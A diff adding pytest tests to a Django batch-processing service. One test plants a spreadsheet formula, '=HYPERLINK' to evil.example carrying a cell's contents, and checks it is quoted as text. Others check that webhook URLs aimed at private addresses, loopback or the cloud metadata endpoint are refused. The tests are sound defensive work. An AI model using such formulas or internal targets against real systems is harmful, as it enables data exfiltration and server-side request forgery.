@@ -20,7 +20,7 @@ import pytest
 from django.db.models import Count, Max
 from django.db.models.fields.json import KT
 
-from exchange.batches import batches_sweep
+from exchange.batches import Claimed, _call, batches_sweep, webhook_url_allowed
 from exchange.models import (
     ApiProduct,
     ApiScope,
@@ -332,6 +332,7 @@ def test_a_csv_batch_gives_csv_results(client, contract, token, workers):
     buffer = io.StringIO()
     writer = csv.DictWriter(buffer, fieldnames=[*pivot("angela"), "annee", "mois", "case_id"])
     writer.writeheader()
+    rows[1]["case_id"] = '=HYPERLINK("https://evil.example/?x="&A1)'  # a formula, for a spreadsheet
     for row in rows:
         writer.writerow({**row, "annee": "2026", "mois": "10"})
 
@@ -348,6 +349,7 @@ def test_a_csv_batch_gives_csv_results(client, contract, token, workers):
     assert table[0]["case_id"] == "dossier-1" and table[0]["quotientFamilial"] == "820"
     assert table[0]["mois"] == "10" and "adresse" not in table[0]
     assert table[2]["http_status"] == "404" and table[2]["quotientFamilial"] == ""
+    assert table[1]["case_id"] == "'" + rows[1]["case_id"]  # quoted: read as text, never run
 
 
 def test_invalid_lines_are_named_and_nothing_is_created(client, contract, token):
@@ -574,3 +576,50 @@ def test_batches_are_read_only_in_the_admin_with_their_progress(client, contract
     assert listing.status_code == 200 and batch_id in listing.content.decode()
     assert page.status_code == 200 and "/ 2 (" in page.content.decode()
     assert admin_client.get("/admin/exchange/batch/add/").status_code == 403
+
+
+@pytest.mark.parametrize(
+    ("url", "secure", "allowed"),
+    [
+        ("https://hooks.mairie.example.fr/maillage", True, True),
+        ("https://10.0.0.7/hook", True, False),  # private network
+        ("https://169.254.169.254/latest/meta-data", True, False),  # link-local (cloud metadata)
+        ("https://[::1]/hook", True, False),
+        ("https://127.0.0.1/hook", True, False),
+        ("https://localhost/hook", True, False),
+        ("http://127.0.0.1:9000/hook", True, False),  # plain http in production
+        ("http://127.0.0.1:9000/hook", False, True),  # plain http on loopback in development
+        ("http://hooks.mairie.example.fr/hook", False, False),
+        ("https://user:pass@hooks.mairie.example.fr/hook", True, False),
+        ("ftp://hooks.mairie.example.fr/hook", True, False),
+    ],
+)
+def test_webhooks_never_call_into_a_private_network(url, secure, allowed, settings):
+    settings.SECURE_COOKIES = secure
+    assert webhook_url_allowed(url) is allowed
+
+
+def test_a_webhook_name_resolving_to_a_private_address_is_refused_at_delivery(settings):
+    settings.SECURE_COOKIES = True
+    assert (
+        webhook_url_allowed("https://localhost.localdomain.invalid/hook") is True
+    )  # not resolved at submission
+    assert (
+        webhook_url_allowed("https://localhost.localdomain.invalid/hook", resolve=True) is False
+    )  # no address
+    assert webhook_url_allowed("https://localhost/hook", resolve=True) is False
+
+
+def test_a_private_webhook_address_is_refused_at_submission(client, contract, token, settings):
+    settings.SECURE_COOKIES = True
+    create_secret(client, token)
+    answer = submit(client, contract, token, jsonl(items(1)), webhook_url="https://10.0.0.7/hook")
+    assert answer.status_code == 400 and answer["Content-Type"] == "application/problem+json"
+    assert not Batch.objects.exists()
+
+
+def test_a_provider_refusing_maillage_is_a_fault_to_retry_not_the_items_result(contract, providers):
+    ApiProduct.objects.update(upstream_secret="not-the-providers-token")
+    batch = Batch(api=ApiProduct.objects.get(slug="caf-qf"), path=PATH, public_id=uuid.uuid4())
+    outcome = _call(batch, Claimed(pk=1, line=1, attempts=1, params=pivot("angela"), case_id=""))
+    assert outcome.fault is not None and outcome.fault.code == "upstream-failure"
